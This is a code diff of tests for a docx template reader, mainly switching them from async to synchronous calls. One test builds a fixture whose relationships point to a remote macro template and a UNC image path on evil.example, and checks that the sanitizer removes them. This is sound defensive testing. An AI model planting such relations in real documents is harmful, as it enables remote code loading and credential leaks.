@@ -9,7 +9,7 @@ import { safeSvg } from '../evidence/safe-svg';
 import { readDocxTemplate, unpackDocx } from '../templates/read-docx-template';
 import { readTemplate } from '../templates/read-template';
 import { quietDocx } from '../writers/docx/quiet-docx';
-import { writeZip } from '../writers/docx/write-zip';
+import { zipped } from '../writers/docx/pack-docx';
 import {
   codeCell,
   evidence,
@@ -43,16 +43,16 @@ describe('a template', () => {
     const all = Array.from({ length: 5_000 }, (_, at) => `{{n${at}}}`);
     expect(readTemplate(all.join(' ')).parts).toHaveLength(200);
     expect(
-      await readDocxTemplate(await docx(`<w:p>${run(all.join(' '))}</w:p>`))
+      readDocxTemplate(docx(`<w:p>${run(all.join(' '))}</w:p>`))
     ).toHaveLength(200);
   });
 
   it('in Word may have its paragraphs in each other', async () => {
     const deep = 400;
-    const bytes = await docx(
+    const bytes = docx(
       `${'<w:p>'.repeat(deep)}${run('{{name}}').repeat(deep)}${'</w:p>'.repeat(deep)}`
     );
-    expect(await readDocxTemplate(bytes)).toMatchObject([
+    expect(readDocxTemplate(bytes)).toMatchObject([
       { name: 'name', isBlock: false }
     ]);
   });
@@ -60,7 +60,7 @@ describe('a template', () => {
   it('in Word fetches nothing from elsewhere when it is opened', async () => {
     const relation = (type: string, target: string, mode = 'External') =>
       `<Relationship Id="r${type}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`;
-    const bytes = await docx(
+    const bytes = docx(
       `<w:p>${run('x')}</w:p>`,
       relation('attachedTemplate', 'https://evil.example/t.dotm') +
         relation('image', '\\\\evil.example\\x.png') +
@@ -68,7 +68,7 @@ describe('a template', () => {
         relation('hyperlink', 'https://good.example/') +
         relation('styles', 'styles.xml', 'Internal')
     );
-    const quiet = quietDocx(await unpackDocx(bytes));
+    const quiet = quietDocx(unpackDocx(bytes));
     const text = [...quiet.values()]
       .map(each => new TextDecoder().decode(each))
       .join();
@@ -217,9 +217,9 @@ function run(text: string): string {
   return `<w:r><w:t>${text}</w:t></w:r>`;
 }
 
-function docx(body: string, relations = ''): Promise<Uint8Array> {
+function docx(body: string, relations = ''): Uint8Array {
   const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
-  return writeZip(
+  return zipped(
     new Map([
       ['[Content_Types].xml', bytes('<Types/>')],
       [
